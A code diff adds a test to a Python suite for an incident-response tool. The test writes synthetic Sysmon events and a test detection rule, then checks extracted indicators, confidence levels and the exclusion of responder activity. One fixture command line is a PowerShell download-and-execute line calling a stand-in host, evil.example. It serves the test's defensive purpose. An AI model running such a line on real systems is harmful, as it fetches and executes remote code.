@@ -179,9 +179,63 @@ def check_exports(checks, name, case, folder):
         checks.equal(f"{name}: {form} not found", [r["indicator"] for r in rows if r["status"] != "found"], [])
 
 
+HASHES = "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=11111111111111111111111111111111"
+RULE = """title: Made For This Test
+id: 11111111-1111-4111-8111-111111111111
+status: test
+logsource: {product: windows, category: process_creation}
+detection:
+    words: {CommandLine|contains: marked}
+    condition: words
+level: LEVEL
+"""
+
+
+def sysmon(number, second, user, image, command, hashes):
+    return json.dumps({"Event": {
+        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
+                   "Computer": "WS01", "EventRecordID": number, "TimeCreated": {"#attributes": {"SystemTime": f"2026-03-01T00:00:{second:02d}.000000Z"}}},
+        "EventData": {"UtcTime": "2026-03-01 00:00:00.000", "Image": image, "CommandLine": command, "User": user, "Hashes": hashes}}})
+
+
+def check_without_intrusion(checks, folder):
+    """Only a rule speaks: all is of low confidence, what responders did is left out, and so is what a rule of a low level found."""
+    log, rules, case = (os.path.join(folder, n) for n in ("sysmon.jsonl", "rules", "alone"))
+    with open(log, "w", encoding="utf-8") as file:
+        file.write(sysmon(1, 1, "WS\\taro", "C:\\Users\\taro\\x.exe",
+                          "x.exe marked \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); Go\" 203.0.113.9 10.0.0.9", HASHES) + "\n")
+        file.write(sysmon(2, 2, "WS\\ours", "C:\\Tools\\scan.exe", "scan.exe marked", "") + "\n")
+        file.write(sysmon(3, 3, "WS\\taro", "C:\\Windows\\System32\\cmd.exe", "cmd marked /c \"C:\\ProgramData\\q\\y.exe -a\"", HASHES) + "\n")
+        file.write(sysmon(4, 4, "WS\\taro", "C:\\Users\\taro\\plain.exe", "plain.exe", "") + "\n")
+    with open(os.path.join(folder, "alone.yaml"), "w", encoding="utf-8") as file:
+        file.write("responders:\n  - {account: ours, did: x}\n")
+    os.makedirs(rules)
+    wanted = {("path", "C:\\Users\\taro\\x.exe"), ("path", "C:\\ProgramData\\q\\y.exe"), ("url", "http://evil.example/a.ps1"), ("ip", "203.0.113.9"),
+              ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"), ("md5", "d41d8cd98f00b204e9800998ecf8427e")}
+    kit.init(case, os.path.join(folder, "alone.yaml"))
+    for level in ("medium", "high"):
+        with open(os.path.join(rules, "r.yml"), "w", encoding="utf-8") as file:
+            file.write(RULE.replace("LEVEL", level))
+        kit.add(case, [log], "--rules", rules)
+        kit.kakuho("analyse", case, "--rules", rules)
+        rows = kit.kakuho("iocs", case, "--format", "jsonl").lines()
+        mine = [r for r in rows if any(w["what"] == "Made For This Test" for w in r["why"])]
+        checks.equal(f"alone: by a rule of level {level}", {(r["type"], r["value"]) for r in mine}, wanted if level == "high" else set())
+        checks.equal("alone: low confidence", {r["confidence"] for r in mine}, {"low"} if level == "high" else set())
+    checks.true("alone: no responder", not any("scan.exe" in json.dumps(r) for r in rows))
+    checks.equal("alone: a hash says whose", {r.get("of") for r in mine if r["type"] == "md5"}, {"C:\\Users\\taro\\x.exe"})
+    given = os.path.join(folder, "hashes.txt")
+    with open(given, "w", encoding="utf-8") as file:
+        file.write("D41D8CD98F00B204E9800998ECF8427E\n" + "0" * 40 + "\n")
+    found, missing = kit.kakuho("iocs", case, "--ioc", given, "--format", "jsonl").lines()
+    checks.equal("alone: MD5 where a log names it", (found["status"], found["events"], found["in_logs_only"]), ("found", 2, True))
+    checks.equal("alone: SHA-1 of nothing", (missing["status"], missing["in_logs_only"]), ("not found", True))
+
+
 def main():
     checks = kit.Checks()
     folder = kit.place("iocs")
+    check_without_intrusion(checks, folder)
     checks.equal("a file that is not there", kit.kakuho("iocs", folder, "--ioc", os.path.join(folder, "none")).status, 2)
     for name in STORY:
         case_file, evidence, more, _ = kit.demo_case(name)
